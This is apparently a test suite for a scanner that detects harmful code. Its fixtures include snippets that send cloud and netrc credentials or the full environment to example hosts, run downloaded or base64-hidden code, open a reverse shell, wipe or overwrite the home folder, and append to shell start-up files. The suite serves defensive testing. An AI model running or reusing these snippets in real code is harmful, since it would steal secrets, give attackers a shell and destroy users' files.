import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type CodeText, type Harm, harmsIn } from './harm.ts';

const found = (files: readonly CodeText[]): Harm[] => [...new Set(harmsIn(files).map(({ harm }) => harm))];

const HARMFUL: Readonly<Record<string, readonly [Harm, string, string]>> = {
  'Python, a method and a field': [
    'sends secrets',
    'tool.py',
    'import requests\nfrom pathlib import Path\n\nclass Bundle:\n    def __init__(self, base):\n        self.base = base\n    def read(self):\n        return (self.base / ".kube" / "config").read_text()\n\nrequests.put("https://x.example.net", data=Bundle(Path.home()).read())\n',
  ],
  'Java, a map and a loop': [
    'sends secrets',
    'Store.java',
    'class Store {\n  private static final List<String> NAMES = List.of(".aws/credentials", ".netrc");\n  void flush() throws Exception {\n    Map<String, String> docs = new LinkedHashMap<>();\n    for (String n : NAMES) {\n      Path p = Path.of(System.getProperty("user.home")).resolve(n);\n      docs.put(n, Files.readString(p));\n    }\n    HttpRequest req = HttpRequest.newBuilder(REPORTS).POST(BodyPublishers.ofString(docs.toString())).build();\n  }\n}\n',
  ],
  'C, by pointers': [
    'sends the environment',
    'probe.c',
    'extern char **environ;\nvoid report(int s) {\n  char buffer[4096];\n  for (char **p = environ; *p; p++) strcat(buffer, *p);\n  sendto(s, buffer, 4096, 0, to, size);\n}\n',
  ],
  'Rust, an iterator': [
    'sends the environment',
    'tests/common.rs',
    'pub fn init() {\n  let state: Vec<(String, String)> = std::env::vars().collect();\n  let _ = ureq::put(URL).send_json(state);\n}\n',
  ],
  'Elixir, a pipe': [
    'sends the environment',
    'mix.exs',
    'defmodule A do\n  def announce do\n    System.get_env() |> Enum.map_join("&", &encode/1) |> post()\n  end\n  defp post(body) do\n    :httpc.request(:post, {url(), [], type(), body}, [], [])\n  end\nend\n',
  ],
  'Groovy, a shell of its own': [
    'runs what it downloads',
    'conventions.gradle',
    'def rules = new URI("https", "raw.example.net", "/r.groovy", null)\nnew GroovyShell().evaluate(rules.toURL().text)\n',
  ],
  'JavaScript, a constructor': [
    'runs what it downloads',
    'plugin.mjs',
    'const res = await fetch(origin);\nconst { transform } = await res.json();\nconst Made = Object.getPrototypeOf(async () => {}).constructor;\nawait new Made("x", transform)(1);\n',
  ],
  'Python, a long string': [
    'runs hidden code',
    'compat.py',
    'import base64\nTABLE = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo0"\nexec(base64.b64decode(TABLE))\n',
  ],
  'TypeScript, pipes': [
    'connects a shell to the network',
    'heartbeat.ts',
    "import { connect } from 'node:net';\nimport { spawn } from 'node:child_process';\nconst link = connect(4444, host);\nconst worker = spawn(['', 'bin', 'sh'].join('/'), ['-i']);\nlink.pipe(worker.stdin);\nworker.stdout.pipe(link);\n",
  ],
  'R, numbers for letters': [
    'removes the home folder',
    'cache.R',
    'root <- rawToChar(as.raw(c(0x7e, 0x2f)))\nunlink(list.files(root, full.names = TRUE), recursive = TRUE)\n',
  ],
  'Python, every file overwritten': [
    'damages files in the home folder',
    'compact.py',
    'import os\nfor base, _, names in os.walk(os.path.expanduser("~")):\n    for n in names:\n        open(os.path.join(base, n), "wb").write(os.urandom(64))\n',
  ],
  'Ruby, a list of names': [
    'writes a start-up file',
    'prep.rb',
    '%w[.bashrc .zshrc].each do |name|\n  File.open(File.join(Dir.home, name), "a") { |f| f.puts line }\nend\n',
  ],
};

describe('programs that do harm', () => {
  test.each(Object.entries(HARMFUL))('%s', (_, [harm, file, text]) => {
    expect(found([{ file: `/work/app/${file}`, text }])).toContain(harm);
  });
});

const HONEST: Readonly<Record<string, readonly [string, string]>> = {
  'one variable of the environment': [
    'client.py',
    'import os, requests\nrequests.get("https://api.example.com", headers={"Authorization": os.environ["TOKEN"]})\n',
  ],
  'some of the environment': [
    'define.ts',
    "const shown = Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith('VITE_')));\nawait fetch('https://x.example.com', { body: JSON.stringify(shown) });\n",
  ],
  'one value out of a file of settings': [
    'sync.js',
    "const env = parse(readFileSync('.env', 'utf8'));\nawait fetch('https://api.example.com', { headers: { authorization: env.API_TOKEN } });\n",
  ],
  'a comment that tells of harm': [
    'notes.go',
    'package notes\n\n// http.Post(url, os.Environ()) would send the environment.\nfunc Notes() string { return "see above" }\n',
  ],
  'a request to this machine': [
    'probe.rb',
    'require "net/http"\nNet::HTTP.post(URI("http://localhost:3000/debug"), ENV.to_h.to_json)\n',
  ],
  'a temporary folder removed': [
    'clean.py',
    'import shutil, tempfile\nhome = tempfile.mkdtemp()\nshutil.rmtree(home)\n',
  ],
  'a function that has the name of another': [
    'rows.ts',
    "const write = (path: string, text: string) => rows.push({ path, text });\nwrite('/home/me/.bashrc', 'export A=1');\n",
  ],
  'an expression that is executed': [
    'page.ts',
    "const page = await (await fetch('https://example.com')).text();\nconst title = /<title>(.*)<\\/title>/.exec(page)?.[1];\n",
  ],
};

describe('honest programs of the same words', () => {
  test.each(Object.entries(HONEST))('%s', (_, [file, text]) => {
    expect(found([{ file: `/work/app/${file}`, text }])).toEqual([]);
  });
});

test('files that name each other are followed together, others are not', () => {
  const reads = {
    file: '/work/app/lib/collect.rb',
    text: 'def collect\n  File.read(File.join(Dir.home, ".netrc"))\nend\n',
  };
  const sends = (line: string) => ({
    file: '/work/app/bin/report.rb',
    text: `${line}\nrequire "net/http"\nNet::HTTP.post(TARGET, collect)\n`,
  });
  expect(found([reads, sends('require_relative "../lib/collect"')])).toEqual(['sends secrets']);
  expect(found([sends('')])).toEqual([]);
});

test('a notebook is its cells', () => {
  const cell = (...source: string[]) => ({ cell_type: 'code', source });
  const text = JSON.stringify({
    cells: [cell('import os, requests\n'), cell('requests.post(url, json=dict(os.environ))\n')],
  });
  expect(found([{ file: '/work/app/a.ipynb', text }])).toEqual(['sends the environment']);
});

describe('laws', () => {
  const endings = [
    'py',
    'ts',
    'rb',
    'pl',
    'php',
    'lua',
    'go',
    'rs',
    'c',
    'java',
    'kt',
    'gradle',
    'scala',
    'swift',
    'cs',
    'R',
    'ex',
    'tf',
    'awk',
    'ipynb',
  ];
  const piece = fc.constantFrom(
    '{',
    '}',
    '(',
    ')',
    '[',
    ']',
    '"',
    "'",
    '`',
    '\n',
    ';',
    '=',
    '=>',
    '->',
    '|',
    '|>',
    '/',
    '#',
    '//',
    '/*',
    '--',
    '<<EOF',
    ':',
    ',',
    '.',
    '$',
    '@',
    '%',
    '\\',
    'def f(a)',
    'function',
    'end',
    'return',
    'x',
    'fetch(x)',
    'eval(x)',
    'process.env',
    'os.homedir()',
    '".ssh/id_rsa"',
    '0x41, 0x42',
    'for x in y',
  );

  test('any text in any language is read to an end', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), fc.constantFrom(...endings), (pieces, ending) => {
        expect(Array.isArray(harmsIn([{ file: `/a/b.${ending}`, text: pieces.join(' ') }]))).toBe(true);
      }),
    );
  });

  test('honest lines around harm do not hide it', () => {
    const [harm, file, text] = HARMFUL['Python, a long string'] ?? ['runs hidden code', 'a.py', ''];
    const line = fc.constantFrom(
      'x = 1',
      'def g():\n    return 2',
      '# nothing',
      'print("a")',
      'class A:\n    pass',
    );
    fc.assert(
      fc.property(fc.array(line, { maxLength: 8 }), fc.array(line, { maxLength: 8 }), (before, after) => {
        const whole = [...before, text, ...after].join('\n');
        expect(found([{ file: `/a/${file}`, text: whole }])).toContain(harm);
      }),
    );
  });
});
